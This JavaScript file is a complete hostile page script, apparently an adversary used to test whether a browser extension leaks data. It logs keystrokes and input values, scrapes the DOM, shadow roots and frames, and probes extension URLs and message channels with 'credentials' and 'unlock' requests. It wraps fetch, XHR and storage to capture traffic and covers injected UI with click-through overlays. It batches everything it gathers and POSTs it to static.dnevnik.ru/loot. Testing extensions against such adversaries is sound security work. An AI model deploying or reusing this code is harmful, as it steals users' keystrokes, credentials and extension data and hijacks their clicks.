// A third party's script, first on the page: it takes whatever the extension leaves exposed. Its loot is in
// window.__loot, each entry «mode: text», and goes to static.dnevnik.ru/loot.
window.__hostile = (modes, needles) => {
  const on = (mode) => modes.includes(mode);
  const loot = [];
  window.__loot = loot;
  const known = new Set();
  const send = window.fetch.bind(window);
  let unsent = [];
  const take = (mode, value) => {
    let text;
    try {
      text = typeof value === 'string' ? value : JSON.stringify(value);
    } catch {
      text = String(value);
    }
    const entry = `${mode}: ${String(text).slice(0, 20000)}`;
    if (known.has(entry)) return;
    known.add(entry);
    loot.push(entry);
    unsent.push(entry);
  };
  setInterval(() => {
    if (!unsent.length) return;
    const batch = unsent;
    unsent = [];
    const body = batch.join('\u0000');
    send('https://static.dnevnik.ru/loot', { method: 'POST', mode: 'no-cors', body }).catch(() => {
      // A busy stand has not taken it: it goes with the next.
      unsent = [...batch, ...unsent];
    });
  }, 400);
  const every = (mode, pause, work) => {
    if (!on(mode)) return;
    setInterval(() => {
      try {
        work();
      } catch (error) {
        take(mode, `error ${error.message}`);
      }
    }, pause);
  };

  // Nodes missing from the original page: somebody else inserted them.
  const native = new WeakSet();
  let parsed = false;
  document.addEventListener('readystatechange', () => {
    if (parsed) return;
    parsed = true;
    for (const node of document.querySelectorAll('*')) {
      const added = node.parentNode === document.documentElement && !['HEAD', 'BODY'].includes(node.tagName);
      if (!added && !node.tagName.includes('-')) native.add(node);
    }
  });
  const bait = new WeakSet();
  const foreign = () =>
    parsed
      ? [...document.querySelectorAll('*')].filter(
          (node) =>
            !native.has(node) &&
            !bait.has(node) &&
            !node.matches('.ad') &&
            !node.querySelector(':scope > .ad'),
        )
      : [];
  const drawn = (node) => {
    for (const pseudo of ['::before', '::after']) {
      const { content } = getComputedStyle(node, pseudo);
      if (content && content !== 'none' && content !== 'normal') take('walk', `${pseudo} ${content}`);
    }
  };
  const walk = (root) => {
    for (const node of root.querySelectorAll('*')) {
      take('walk', node.outerHTML);
      if (node.value) take('walk', `value ${node.value}`);
      drawn(node);
      if (node.shadowRoot) walk(node.shadowRoot);
    }
  };
  every('walk', 300, () => {
    for (const node of foreign()) {
      take('walk', node.outerHTML);
      take('walk', `text ${node.innerText ?? node.textContent}`);
      if (node.value) take('walk', `value ${node.value}`);
      drawn(node);
    }
    for (const node of document.querySelectorAll('*')) {
      if (!node.shadowRoot) continue;
      take('walk', `shadow ${node.shadowRoot.innerHTML}`);
      walk(node.shadowRoot);
    }
  });
  if (on('walk')) {
    new MutationObserver((changes) => {
      for (const { type, target, attributeName } of changes) {
        if (!parsed || type !== 'attributes') continue;
        take('walk', `attribute ${attributeName}=${target.getAttribute(attributeName)}`);
      }
    }).observe(document, { subtree: true, attributes: true });
  }

  every('find', 700, () => {
    for (const needle of needles) {
      const selection = getSelection();
      selection.removeAllRanges();
      if (!window.find(needle, false, false, true, false, true, false)) continue;
      take('find', `found ${needle}`);
      take('find', `around ${selection.toString()}`);
      selection.modify('extend', 'backward', 'documentboundary');
      take('find', `before ${selection.toString()}`);
      selection.collapseToEnd();
      selection.modify('extend', 'forward', 'documentboundary');
      take('find', `after ${selection.toString()}`);
      selection.removeAllRanges();
    }
  });

  if (on('keys')) {
    const events =
      'keydown keypress keyup beforeinput input change paste copy cut compositionend pointerdown click focusin';
    for (const name of events.split(' ')) {
      window.addEventListener(
        name,
        (event) => {
          const target = event.composedPath()[0];
          const label = target?.id || target?.tagName || '';
          take(
            'keys',
            `${name} ${event.key ?? event.data ?? ''} ${target?.value ?? ''} ${label} ${Math.round(event.timeStamp)}`,
          );
        },
        true,
      );
    }
  }

  if (on('messages')) {
    window.addEventListener(
      'message',
      (event) => take('messages', { origin: event.origin, data: event.data }),
      true,
    );
    every('messages', 1000, () => {
      for (const type of ['reset', 'unlock', 'state', 'start', 'confirm', 'credentials', 'open', 'issue']) {
        const message = { type, kind: type, action: type, source: 'klassruk', payload: {} };
        window.postMessage(message, '*');
        for (let i = 0; i < window.frames.length; i++) {
          const channel = new MessageChannel();
          channel.port1.onmessage = (event) => take('messages', { port: true, data: event.data });
          window.frames[i].postMessage(message, '*', [channel.port2]);
        }
      }
    });
  }

  const reframed = new Set();
  every('frames', 500, () => {
    const seen = [...document.querySelectorAll('iframe')].map((node) => node.src);
    const loaded = performance.getEntriesByType('resource').map((entry) => entry.name);
    take('frames', `count ${window.frames.length}`);
    for (let i = 0; i < window.frames.length; i++) {
      try {
        take('frames', `document ${window.frames[i].document.documentElement.innerText}`);
      } catch {
        // another origin, as it should be
      }
    }
    for (const address of [...seen, ...loaded]) {
      if (!/-extension:\/\//.test(address) || reframed.has(address)) continue;
      reframed.add(address);
      take('frames', `address ${address}`);
      send(address)
        .then((answer) => answer.text())
        .then((text) => take('frames', `fetched ${text}`))
        .catch(() => {});
      const frame = document.createElement('iframe');
      frame.className = 'hostile-reframe';
      frame.src = address;
      frame.style.cssText = 'position:absolute;left:-3000px;width:800px;height:600px';
      frame.addEventListener('load', () => take('frames', `framed ${address}`));
      bait.add(frame);
      document.body?.append(frame);
    }
  });

  if (on('patch')) {
    const wrap = (owner, name, note) => {
      const original = owner?.[name];
      if (typeof original !== 'function') return;
      owner[name] = function (...args) {
        take('patch', `${name} ${note(args)}`);
        return original.apply(this, args);
      };
    };
    const plain = (args) =>
      args.map((each) => (typeof each === 'object' ? JSON.stringify(each) : String(each))).join(' ');
    const attach = Element.prototype.attachShadow;
    Element.prototype.attachShadow = function (init) {
      const root = attach.call(this, { ...init, mode: 'open' });
      take('patch', `attachShadow ${this.tagName}`);
      setInterval(() => take('patch', `opened ${root.innerHTML}`), 500);
      return root;
    };
    wrap(window, 'fetch', (args) => plain([args[0]?.url ?? args[0], args[1]?.body ?? '']));
    wrap(XMLHttpRequest.prototype, 'open', plain);
    wrap(XMLHttpRequest.prototype, 'send', plain);
    wrap(window, 'postMessage', plain);
    wrap(MessagePort.prototype, 'postMessage', plain);
    wrap(EventTarget.prototype, 'dispatchEvent', (args) => plain([args[0]?.type, args[0]?.detail ?? '']));
    wrap(Storage.prototype, 'setItem', plain);
    wrap(URL, 'createObjectURL', plain);
    for (const name of ['log', 'info', 'warn', 'error', 'debug']) wrap(console, name, plain);
  }

  // Makes injected content nearly invisible and covers it with a harmless picture that lets clicks through.
  every('cover', 500, () => {
    for (const node of foreign()) {
      const box = node.getBoundingClientRect();
      if (!node.style || (node.parentNode !== document.body && node.parentNode !== document.documentElement))
        continue;
      node.style.setProperty('opacity', '0.01', 'important');
      if (node.dataset.covered || box.width * box.height === 0) continue;
      node.dataset.covered = '1';
      const lid = document.createElement('div');
      bait.add(lid);
      lid.className = 'hostile-lid';
      lid.textContent = 'Продолжить';
      lid.style.cssText = `position:fixed;left:${box.left}px;top:${box.top}px;width:${box.width}px;height:${box.height}px;z-index:2147483647;background:#fff;pointer-events:none`;
      if (lid.showPopover) lid.popover = 'manual';
      document.body.append(lid);
      lid.showPopover?.();
      take('cover', `covered ${node.tagName}`);
    }
  });

  every('click', 600, () => {
    const events = ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'];
    const press = (node) => {
      for (const name of events)
        node.dispatchEvent(new MouseEvent(name, { bubbles: true, composed: true, cancelable: true }));
      for (const key of ['Enter', ' '])
        node.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
      node.click?.();
      take('click', `pressed ${node.tagName}`);
    };
    const presses = (root) => {
      for (const node of root.querySelectorAll('button, a, input, iframe')) {
        press(node);
        if (node.shadowRoot) presses(node.shadowRoot);
      }
    };
    for (const node of foreign()) {
      press(node);
      if (node.shadowRoot) presses(node.shadowRoot);
    }
  });
};
